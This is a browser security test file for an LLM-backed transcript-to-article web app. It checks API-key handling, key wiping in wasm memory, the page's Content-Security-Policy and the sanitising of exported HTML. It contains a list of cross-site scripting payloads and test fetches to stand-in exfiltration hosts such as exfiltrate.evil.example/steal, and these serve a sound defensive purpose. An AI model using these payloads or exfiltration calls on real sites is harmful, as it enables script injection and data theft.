// Security review in the real page: where the API key goes (only to the provider's base URL, in a
// header, never in a URL, a log line, an error message, an export, an API answer or storage without
// opt-in), whether it is cleared from wasm memory when replaced or forgotten, what the page's
// Content-Security-Policy lets through, and whether exported HTML from hostile model output is inert
// when a browser opens it.
// Requirements the app does not meet yet are marked `todo` with what is missing: they run, report, and
// pass on their own once the app is fixed.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { launch, openApp, ROOT, waitFirstFrame, clickItem } from './browser.mjs';
import { startFakeProvider, GOOD_KEY } from '../fake_provider/server.mjs';

let env, fake;
before(async () => { env = await launch(); fake = await startFakeProvider(); });
after(async () => { await fake?.close(); await env?.close(); });

const MODELS = { openai: 'fake-gpt', anthropic: 'fake-claude', gemini: 'fake-gemini' };
const KEY_HEADERS = { openai: 'authorization', anthropic: 'x-api-key', gemini: 'x-goog-api-key' };
const CANARY = 'sk-canary-7f3a9d2e41b8c605aa19e7d3';   // a wrong key: the provider refuses it
const SAMPLE = fs.readFileSync(path.join(ROOT, 'assets/samples/interview_en.txt'), 'utf8');

// Everything the page can see or keep, as one string to search: storage, cookies, the automation API's
// answers, the export, and the visible DOM text.
async function pageSurface(page) {
  return page.evaluate(async () => {
    const parts = [];
    for (const s of [localStorage, sessionStorage]) for (let i = 0; i < s.length; ++i) parts.push(s.key(i), s.getItem(s.key(i)));
    parts.push(document.cookie);
    if (indexedDB.databases) parts.push(JSON.stringify(await indexedDB.databases()));
    const t = window.talkpress;
    for (const f of ['stats', 'summary', 'getSpec', 'state', 'article', 'exportHtml', 'getProvider', 'providerPresets']) {
      try { parts.push(JSON.stringify(t[f]())); } catch (e) { parts.push(String(e.message)); }
    }
    parts.push(document.body.innerText, location.href);
    for (const el of document.querySelectorAll('input, textarea')) parts.push(el.value);
    return parts.join('\n');
  });
}

function watchPage(page) {
  const seen = { requests: [], console: [] };
  page.on('request', (r) => seen.requests.push({ url: r.url(), headers: r.headers(), method: r.method() }));
  page.on('console', (m) => seen.console.push(m.text()));
  page.on('pageerror', (e) => seen.console.push(e.message));
  return seen;
}

for (const kind of ['openai', 'anthropic', 'gemini']) {
  test(`${kind}: the key travels only to the provider's origin, in its header, and shows up nowhere else`, async () => {
    fake.reset();
    const { page, context } = await openApp(env.browser, env.url);
    const seen = watchPage(page);
    const origin = new URL(fake.urls[kind]).origin;
    // A wrong key: listModels and one completion fail; their messages must not echo the key.
    await page.evaluate((p) => window.talkpress.setProvider(p), { kind, baseUrl: fake.urls[kind], apiKey: CANARY, model: MODELS[kind] });
    const failures = await page.evaluate(async () => {
      const out = [];
      for (const call of [() => window.talkpress.listModels(), () => window.talkpress.complete({ user: 'Say hi.', maxTokens: 20 })]) {
        try { await call(); out.push('no error'); } catch (e) { out.push(`${e.code}: ${e.message}`); }
      }
      return out;
    });
    for (const f of failures) { assert.match(f, /^auth|^permission|^bad_request/, f); assert.ok(!f.includes(CANARY), f); }
    // The right key: a whole article.
    await page.evaluate(({ t }) => window.talkpress.setTranscript(t, { title: 'Signal and Noise' }), { t: SAMPLE });
    await page.evaluate((p) => window.talkpress.setProvider(p), { kind, baseUrl: fake.urls[kind], apiKey: GOOD_KEY, model: MODELS[kind] });
    const r = await page.evaluate(() => window.talkpress.generate().then((g) => ({ ok: g.markdown.length }), (e) => ({ error: e.code, message: e.message })));
    assert.equal(r.error, undefined, r.message);

    const withKey = seen.requests.filter((q) => JSON.stringify(q.headers).includes(CANARY) || JSON.stringify(q.headers).includes(GOOD_KEY));
    assert.ok(withKey.length >= 3, 'the key was sent');
    for (const q of seen.requests) {
      assert.ok(!q.url.includes(CANARY) && !q.url.includes(GOOD_KEY), `key in a URL: ${q.url}`);
    }
    for (const q of withKey) {
      assert.equal(new URL(q.url).origin, origin, `key sent to ${q.url}`);
      const carrying = Object.entries(q.headers).filter(([, v]) => v.includes(CANARY) || v.includes(GOOD_KEY)).map(([k]) => k);
      assert.deepEqual(carrying, [KEY_HEADERS[kind]], `the key travels only in ${KEY_HEADERS[kind]}`);
    }
    for (const line of seen.console) assert.ok(!line.includes(CANARY) && !line.includes(GOOD_KEY), `key in the console: ${line}`);
    const surface = await pageSurface(page);
    assert.ok(!surface.includes(CANARY), 'the wrong key is nowhere in storage, the API, the export or the page');
    assert.ok(!surface.includes(GOOD_KEY), 'the key is nowhere in storage, the API, the export or the page (no opt-in)');
    // After a reload (the project is restored from storage) the key is still not there, and not set.
    await page.reload();
    await waitFirstFrame(page);
    assert.ok(!(await pageSurface(page)).includes(GOOD_KEY));
    assert.equal((await page.evaluate(() => window.talkpress.getProvider())).keySet, false, 'a key not remembered is gone after a reload');
    await context.close();
  });
}

// The bytes of every key the page was given, searched in the whole wasm heap.
async function heapHas(page, needle) {
  return page.evaluate((n) => {
    const heap = window.HEAPU8 || (window.Module && window.Module.HEAPU8);
    if (!heap) return null;
    const b = new TextEncoder().encode(n);
    outer: for (let i = heap.indexOf(b[0]); i !== -1 && i <= heap.length - b.length; i = heap.indexOf(b[0], i + 1)) {
      for (let k = 1; k < b.length; ++k) if (heap[i + k] !== b[k]) continue outer;
      return true;
    }
    return false;
  }, needle);
}

test('replacing or forgetting the key clears its copies in wasm memory', async () => {
  const { page, context } = await openApp(env.browser, env.url);
  const first = 'sk-first-key-0b1c2d3e4f5a6b7c8d9e', second = 'sk-second-key-9e8d7c6b5a4f3e2d1c0b';
  assert.notEqual(await heapHas(page, 'x'), null, 'the wasm heap is readable from the page');
  await page.evaluate((k) => window.talkpress.setProvider({ kind: 'openai', baseUrl: 'https://api.openai.com/v1', apiKey: k }), first);
  assert.equal(await heapHas(page, first), true, 'sanity: the key is in memory while it is in use');
  await page.evaluate((k) => window.talkpress.setProvider({ kind: 'openai', baseUrl: 'https://api.openai.com/v1', apiKey: k }), second);
  assert.equal(await heapHas(page, first), false, 'the replaced key is wiped');
  await page.evaluate(() => window.talkpress.setProvider({ kind: 'openai', baseUrl: 'https://api.openai.com/v1', apiKey: '' }));
  assert.equal(await heapHas(page, second), false, 'the forgotten key is wiped');
  await context.close();
});

test('a key typed into the Model tab and then replaced or deleted leaves no copy in wasm memory (the field\'s own buffers and undo)', async () => {
  const { page, context } = await openApp(env.browser, env.url);
  const first = 'sk-typed-first-5a6b7c8d9e0f1a2b', second = 'sk-typed-second-0f9e8d7c6b5a4f3e';
  await page.evaluate(() => window.talkpress.setProvider({ kind: 'openai', baseUrl: 'https://api.openai.com/v1', apiKey: '' }));
  await clickItem(page, 'tab.model');
  const typeKey = async (k) => {
    await clickItem(page, 'model.apiKey');
    await page.keyboard.press('Control+A');
    await page.keyboard.type(k, { delay: 5 });
    await clickItem(page, 'model.baseUrl');   // the key field loses focus
    await page.keyboard.press('Escape');
  };
  await typeKey(first);
  await page.waitForFunction(() => window.talkpress.getProvider().keySet);
  assert.equal(await heapHas(page, first), true, 'sanity: the typed key is in memory while it is in use');
  await typeKey(second);
  await page.waitForTimeout(300);
  assert.equal(await heapHas(page, first), false, 'the replaced key left no copy (field buffer, revert copy or undo stack)');
  await clickItem(page, 'model.apiKey');
  await page.keyboard.press('Control+A');
  await page.keyboard.press('Delete');
  await clickItem(page, 'model.baseUrl');
  await page.waitForFunction(() => !window.talkpress.getProvider().keySet);
  await page.waitForTimeout(300);
  assert.equal(await heapHas(page, second), false, 'the deleted key left no copy');
  await context.close();
});

// CSP: what the page itself may load, run and connect to.
async function attempt(page, what) {
  return page.evaluate(async (w) => {
    const violations = [];
    const onViolation = (e) => violations.push(`${e.violatedDirective} ${e.blockedURI}`);
    document.addEventListener('securitypolicyviolation', onViolation);
    let outcome;
    try {
      if (w.kind === 'fetch') { await fetch(w.url, { mode: 'no-cors' }); outcome = 'sent'; }
      // From a page task: code evaluated by the test driver itself is exempt from the page's eval rule.
      if (w.kind === 'eval') outcome = await new Promise((res) => setTimeout(() => { try { res(String(eval('1 + 1'))); } catch (e) { res(`threw ${e.name}`); } }, 0));
      if (w.kind === 'function') outcome = await new Promise((res) => setTimeout(() => { try { res(String(new Function('return 3')())); } catch (e) { res(`threw ${e.name}`); } }, 0));
      if (w.kind === 'handler') {
        const b = document.createElement('button'); b.setAttribute('onclick', 'window.__handlerRan = true'); document.body.appendChild(b); b.click(); b.remove();
        outcome = window.__handlerRan ? 'ran' : 'blocked';
      }
      if (w.kind === 'inline') {
        const s = document.createElement('script'); s.textContent = 'window.__inlineRan = true;'; document.head.appendChild(s);
        outcome = window.__inlineRan ? 'ran' : 'blocked';
      }
      if (w.kind === 'script') {
        outcome = await new Promise((res) => { const s = document.createElement('script'); s.src = w.url; s.onload = () => res('loaded'); s.onerror = () => res('error'); document.head.appendChild(s); });
      }
      if (w.kind === 'image') {
        outcome = await new Promise((res) => { const i = new Image(); i.onload = () => res('loaded'); i.onerror = () => res('error'); i.src = w.url; });
      }
    } catch (e) { outcome = `threw ${e.name}`; }
    await new Promise((r) => setTimeout(r, 100));
    document.removeEventListener('securitypolicyviolation', onViolation);
    return { outcome, violations };
  }, what);
}

test('the page policy forbids inline script and handlers, eval, and scripts, images and connections elsewhere', async () => {
  const { page, context } = await openApp(env.browser, env.url);
  const csp = await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.content);
  assert.ok(csp, 'the page declares a Content-Security-Policy');
  const blocked = async (what) => {
    const r = await attempt(page, what);
    assert.ok(r.violations.length > 0, `${JSON.stringify(what)} was not blocked by the policy (${r.outcome})`);
  };
  await blocked({ kind: 'inline' });
  await blocked({ kind: 'eval' });
  await blocked({ kind: 'function' });
  await blocked({ kind: 'handler' });
  await blocked({ kind: 'script', url: 'https://cdn.evil.example/x.js' });
  await blocked({ kind: 'image', url: 'https://evil.example/pixel.png' });
  await blocked({ kind: 'fetch', url: 'http://198.51.100.7/collect' });   // plain http beyond this machine
  assert.deepEqual(await page.evaluate(() => [window.__inlineRan, window.__handlerRan]), [undefined, undefined]);
  await context.close();
});

test('the page policy allows connections only to the chosen provider', async () => {
  const { page, context } = await openApp(env.browser, env.url);
  await page.evaluate((p) => window.talkpress.setProvider(p), { kind: 'openai', baseUrl: fake.urls.openai, apiKey: GOOD_KEY, model: 'fake-gpt' });
  const r = await attempt(page, { kind: 'fetch', url: 'https://exfiltrate.evil.example/steal' });
  assert.ok(r.violations.length > 0, `a connection to another https origin is allowed (${r.outcome})`);
  const chosen = await attempt(page, { kind: 'fetch', url: `${fake.urls.openai}/models` });
  assert.deepEqual(chosen.violations, [], 'the chosen provider stays reachable');
  // A first visit allowed this machine before the choice (a local server may be the one chosen); once a
  // provider is chosen, nothing else on it either.
  const port = new URL(fake.base).port;
  for (const url of [`http://127.0.0.1:${Number(port) + 1}/x`, `http://localhost:${port}/x`, 'http://localhost:11434/api/tags']) {
    const other = await attempt(page, { kind: 'fetch', url });
    assert.ok(other.violations.length > 0, `${url} is allowed after another provider was chosen (${other.outcome})`);
  }
  await context.close();
});

// Hostile model output, through the automation API's export (the same function as Copy HTML and the
// .html download), opened as a page of its own: nothing runs, nothing is fetched, links are safe.
const HOSTILE = [
  '# Title <script>alert("title")</script> 🚀',
  '> Lead <img src=x onerror="alert(\'img\')"> and <svg onload="alert(\'svg\')"></svg>',
  '',
  '<iframe srcdoc="<script>alert(\'frame\')</script>"></iframe>',
  '',
  '<details open ontoggle="alert(\'toggle\')"><summary>x</summary></details>',
  '',
  '<!-- --><script>alert("comment")</script><!-- -->',
  '',
  '- [js](javascript:alert("link")) [JS](JaVaScRiPt:alert(1)) [ent](&#106;avascript:alert(1))',
  '- [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) <javascript:alert(2)>',
  '- ![pixel](https://evil.example/p.png) [ok](https://example.com/?a=1&b=2) [mail](mailto:ed@example.com)',
  '- <a href="javascript:alert(3)" onclick="alert(4)">raw anchor</a> <input autofocus onfocus="alert(5)">',
  '',
  '<style>body{background:url(https://evil.example/bg.png)}</style>',
  '',
  '```"><script>alert("fence")</script>',
  '<script>alert("code")</script>',
  '```',
  '',
  'A'.repeat(200000),
].join('\n');

test('exported HTML of hostile model output is inert when opened, and lays out within the page width', async () => {
  const { page, context } = await openApp(env.browser, env.url);
  await page.evaluate((m) => window.talkpress.setArticle(m), HOSTILE);
  const { html } = await page.evaluate(() => window.talkpress.exportHtml());
  assert.ok(html.length > 200000);
  // Text never holds a raw '<' (it is escaped), so every '<' starts a real tag: judge those alone.
  const tags = html.match(/<[^>]*>/g) || [];
  const allowed = /^<\/?(!doctype|html|head|meta|title|body|article|p|h[1-6]|blockquote|ul|ol|li|pre|code|em|strong|a|br|hr)[\s>]/i;
  for (const t of tags) {
    assert.match(t, allowed, `tag not allowed: ${t.slice(0, 120)}`);
    assert.doesNotMatch(t, /\son\w+\s*=/i, `event attribute: ${t.slice(0, 120)}`);
    assert.doesNotMatch(t, /(javascript|data|vbscript):/i, `unsafe scheme: ${t.slice(0, 120)}`);
  }
  const hrefs = [...html.matchAll(/href="([^"]*)"/g)].map((m) => m[1]);
  assert.deepEqual(hrefs, ['https://example.com/?a=1&amp;b=2', 'mailto:ed@example.com']);
  // Open it as its own page (no policy of ours to help): no dialog, no request, no script.
  const viewer = await context.newPage();
  const dialogs = [], requests = [];
  viewer.on('dialog', (d) => { dialogs.push(d.message()); d.dismiss(); });
  viewer.on('request', (r) => requests.push(r.url()));
  await viewer.setViewportSize({ width: 800, height: 600 });
  await viewer.route('http://exported.invalid/**', (r) => r.fulfill({ status: 200, contentType: 'text/html; charset=utf-8', body: html }));
  await viewer.goto('http://exported.invalid/article.html');
  await viewer.mouse.move(100, 100);
  for (const a of await viewer.$$('a')) await a.hover();
  await viewer.waitForTimeout(300);
  assert.deepEqual(dialogs, []);
  assert.deepEqual(requests.filter((u) => u !== 'http://exported.invalid/article.html'), []);
  assert.equal(await viewer.evaluate(() => document.scripts.length), 0);
  const overflow = await viewer.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
  assert.ok(overflow <= 1, `a 200k-character line makes the page ${overflow}px wider than the window`);
  await context.close();
});
